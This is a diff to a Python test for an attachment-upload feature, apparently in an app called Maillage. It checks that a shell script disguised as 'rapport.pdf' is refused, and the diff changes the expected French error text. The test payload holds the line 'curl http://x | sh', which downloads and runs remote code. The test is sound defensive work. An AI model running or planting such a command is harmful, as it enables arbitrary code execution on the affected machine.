@@ -210,7 +210,7 @@ class TestAttachments:
         response = self.post_file(client, network, b"#!/bin/sh\ncurl http://x | sh\n", "rapport.pdf")
         assert response.status_code == 422
         assert "rapport.pdf" in response.content.decode()
-        assert "n'est pas un document" in response.content.decode() or "not a document" in response.content.decode()
+        assert "pas un document que Maillage accepte" in response.content.decode()
         assert not Note.objects.exists() and not Attachment.objects.exists()
 
     def test_a_pdf_named_as_an_image_is_refused(self, network, client):
